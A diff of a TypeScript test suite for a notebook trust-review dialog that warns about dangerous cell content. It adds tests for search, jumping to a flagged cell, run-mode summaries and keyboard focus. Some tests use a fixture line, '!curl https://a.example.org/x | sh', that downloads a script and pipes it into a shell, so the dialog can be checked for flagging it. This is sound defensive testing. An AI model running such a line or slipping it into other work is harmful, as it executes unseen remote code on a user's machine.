@@ -34,6 +34,7 @@ const hostile = toReview(
 );
 
 let choice: Promise<TrustChoice>;
+const revealed: number[] = [];
 
 const node = (): HTMLElement => {
   const found = document.querySelector<HTMLElement>('.jp-Dialog');
@@ -48,7 +49,13 @@ const open = async (
   question: TrustQuestion = 'trust'
 ): Promise<void> => {
   await React.act(async () => {
-    choice = askAboutTrust({ review, question, notes: ['A note.'], trans });
+    choice = askAboutTrust({
+      review,
+      question,
+      notes: ['A note.'],
+      trans,
+      onReveal: cell => revealed.push(cell)
+    });
     await new Promise(resolve => setTimeout(resolve, 20));
   });
 };
@@ -59,7 +66,7 @@ const buttons = (): HTMLButtonElement[] => [
 
 const press = (label: string): void =>
   React.act(() =>
-    buttons()
+    [...node().querySelectorAll<HTMLButtonElement>('button')]
       .find(({ textContent }) => textContent === label)
       ?.click()
   );
@@ -72,10 +79,20 @@ const choose = (label: string): void =>
       ?.click()
   );
 
-const type = (target: Element, key: string): void => {
-  const event = { key, bubbles: true, cancelable: true };
+const type = (target: Element, key: string, shiftKey = false): void => {
+  const event = { key, shiftKey, bubbles: true, cancelable: true };
   React.act(() => {
     target.dispatchEvent(new KeyboardEvent('keydown', event));
+  });
+};
+
+const seek = (text: string): void => {
+  const field = node().querySelector<HTMLInputElement>('[type=search]');
+  React.act(() => {
+    const proto: unknown = Object.getPrototypeOf(field);
+    const { set } = Object.getOwnPropertyDescriptor(proto, 'value') ?? {};
+    set?.call(field, text);
+    field?.dispatchEvent(new Event('input', { bubbles: true }));
   });
 };
 
@@ -103,7 +120,7 @@ describe('what the review shows', () => {
       'Loads already, trusted or not: 1 remote resource'
     ]);
     expect(texts('.nbw-Review > p')).toEqual([
-      'In 2 cells something would act as soon as they are trusted: 1 script, 1 event handler, 1 remote resource. Nothing of it has run yet.',
+      'Outputs of 2 cells would act as soon as they are trusted: 1 script, 1 event handler, 1 remote resource. Nothing of it has run yet.',
       'A note.'
     ]);
   });
@@ -144,16 +161,18 @@ describe('what the review shows', () => {
 
   it('can be searched, by what stands there', async () => {
     await open(hostile);
-    const field = node().querySelector<HTMLInputElement>('[type=search]');
-    React.act(() => {
-      const proto: unknown = Object.getPrototypeOf(field);
-      const { set } = Object.getOwnPropertyDescriptor(proto, 'value') ?? {};
-      set?.call(field, 'B.EXAMPLE');
-      field?.dispatchEvent(new Event('input', { bubbles: true }));
-    });
+    seek('B.EXAMPLE');
     expect(texts('.nbw-Review-cell .nbw-Review-name')).toEqual([
       'Cell 2: 1 remote resource'
     ]);
+  });
+
+  it('says where nothing is found', async () => {
+    await open(hostile);
+    seek('nowhere');
+    expect(texts('.nbw-Review-lists')).toEqual(['Nothing found.']);
+    seek('');
+    expect(texts('.nbw-Review-lists')[0]).toContain('Cell 3');
   });
 
   it('folds what is long, and bounds what is endless', async () => {
@@ -174,7 +193,33 @@ describe('what the review shows', () => {
     const source = '!curl https://a.example.org/x | sh';
     await open(reviewNotebook({ cells: [{ cell_type: 'code', source }] }));
     expect(texts('.nbw-Review-code')).toEqual([
-      'Cell 1, line 1: download that is run. A download is piped into an interpreter and runs unseen.'
+      'Cell 1, line 1: download that is run. A download is piped into an interpreter and runs unseen. Go to cell!curl https://a.example.org/x | sh'
+    ]);
+    press('Go to cell');
+    expect(revealed).toEqual([0]);
+    expect((await choice).kind).toBe('leave');
+  });
+
+  it('says of a run what runs, and then what its outputs do now', async () => {
+    await open(
+      reviewNotebook({
+        cells: [
+          {
+            cell_type: 'code',
+            source: '!curl https://a.example.org/x | sh',
+            outputs: [toOutput(SCRIPT)]
+          }
+        ]
+      }),
+      'run'
+    );
+    expect(texts('.nbw-Review > p').slice(0, 2)).toEqual([
+      'There is code to look at in 1 cell. Nothing of it has run yet.',
+      'An output of 1 cell would act as soon as it is trusted: 1 script. Nothing of it has run yet.'
+    ]);
+    expect(texts('.nbw-Review-lists h4')).toEqual([
+      'Code to look at before it runs',
+      'Would act once it is trusted'
     ]);
   });
 
@@ -202,6 +247,17 @@ describe('the choice', () => {
     await open(hostile);
     type(buttons()[0], 'Enter');
     expect(await choice).toEqual({ kind: 'leave', cells: [] });
+  });
+
+  it('is reached by Tab, from the last button to the content and back', async () => {
+    await open(hostile);
+    const stops = (): string | null | undefined =>
+      document.activeElement?.textContent;
+    buttons()[4].focus();
+    type(node(), 'Tab');
+    expect(stops()).toBe('What is this?');
+    type(node(), 'Tab', true);
+    expect(stops()).toBe('Trust all');
   });
 
   it('of cells waits for some, and names them', async () => {
